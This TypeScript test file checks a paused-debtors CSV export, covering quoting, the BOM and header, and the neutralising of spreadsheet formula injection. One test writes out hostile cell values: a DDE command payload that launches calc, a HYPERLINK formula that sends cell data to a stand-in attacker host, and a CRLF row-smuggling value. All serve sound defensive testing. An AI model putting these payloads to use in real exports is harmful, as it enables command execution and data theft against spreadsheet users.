import type { Debtor } from '@skp/messages';
import { parseCsv } from '@skp/platform';
import {
  csvCell,
  exportFileName,
  PAUSED_DEBTOR_COLUMNS,
  PausedDebtorRow,
  toPausedDebtorsCsv,
} from './paused-debtors-csv';

const aDebtor = (overrides: Partial<Debtor> = {}): Debtor => ({
  givenNames: 'Jan',
  surnamePrefix: 'de',
  surname: 'Vries',
  birthDate: '1980-05-17',
  address: { street: 'Stadsplateau', houseNumber: 1, houseLetter: 'a', postcode: '3521 AZ', city: 'Utrecht' },
  ...overrides,
});

const aRow = (debtor?: Debtor, overrides: Partial<PausedDebtorRow['pause']> = {}): PausedDebtorRow => ({
  pause: {
    bsn: null,
    customerNumber: 'K-1',
    birthDate: '1980-05-17',
    postcode: '3521AZ',
    startDate: '2026-03-01',
    endDate: '2026-07-01',
    caseReference: 'CASE-1',
    municipality: { code: '0344', name: 'Utrecht' },
    ...overrides,
  },
  ...(debtor ? { debtor } : {}),
});

describe('paused debtors CSV', () => {
  it('starts with a BOM and the header, one CRLF-ended line per pause', () => {
    const csv = toPausedDebtorsCsv([
      aRow(aDebtor()),
      aRow(aDebtor({ surname: 'Jansen' }), { bsn: '111222333' }),
    ]);
    expect(csv.startsWith('\uFEFFcustomerNumber;bsn;')).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toEqual([
      PAUSED_DEBTOR_COLUMNS.join(';'),
      'K-1;;;Jan;de;Vries;1980-05-17;3521 AZ;1;a;;2026-03-01;2026-07-01;CASE-1;0344;Utrecht',
      'K-1;111222333;;Jan;de;Jansen;1980-05-17;3521 AZ;1;a;;2026-03-01;2026-07-01;CASE-1;0344;Utrecht',
      '',
    ]);
  });

  it('neutralises every formula start: = + - @ tab and CR', () => {
    expect(csvCell('=HYPERLINK("http://x","klik")')).toBe(`"'=HYPERLINK(""http://x"",""klik"")"`);
    expect(csvCell('+31 6 1234')).toBe("'+31 6 1234");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('Van der Berg')).toBe('Van der Berg');
    expect(csvCell("O'Brien")).toBe("O'Brien");
    expect(csvCell('a=b')).toBe('a=b');
  });

  it('quotes cells with the separator, quotes or line breaks, and doubles the quotes', () => {
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(12)).toBe('12');
  });

  it('a hostile debtor cannot add cells, lines or formulas: a CSV reader gets the values back as text', () => {
    const hostile = aDebtor({
      givenNames: '@cmd|"/c calc"!A0',
      surname: '=HYPERLINK("http://evil.example/?"&A1;"klik")',
      initials: 'J;K\r\nX;Y',
    });
    const csv = toPausedDebtorsCsv([aRow(hostile, { customerNumber: '-1+1', caseReference: '+CASE' })]);
    const document = parseCsv(csv);
    expect(document?.header.fields).toEqual([...PAUSED_DEBTOR_COLUMNS]);
    expect(document?.records).toHaveLength(1);
    const cells = document?.records[0].fields ?? [];
    const values = Object.fromEntries(PAUSED_DEBTOR_COLUMNS.map((column, i) => [column, cells[i]]));
    expect(cells).toHaveLength(PAUSED_DEBTOR_COLUMNS.length);
    expect(values.surname).toBe(`'=HYPERLINK("http://evil.example/?"&A1;"klik")`);
    expect(values.givenNames).toBe(`'@cmd|"/c calc"!A0`);
    expect(values.initials).toBe('J;K\r\nX;Y');
    expect(values.customerNumber).toBe("'-1+1");
    expect(values.caseReference).toBe("'+CASE");
    for (const column of PAUSED_DEBTOR_COLUMNS) {
      expect(values[column] ?? '').not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('without the Kennisgeving still lists the register keys', () => {
    const csv = toPausedDebtorsCsv([aRow(undefined)]);
    expect(csv.slice(1).split('\r\n')[1]).toBe(
      'K-1;;;;;;1980-05-17;3521AZ;;;;2026-03-01;2026-07-01;CASE-1;0344;Utrecht',
    );
  });

  it('names the file after the date', () => {
    expect(exportFileName('2026-12-02')).toBe('gepauzeerde-debiteuren-2026-12-02.csv');
  });
});
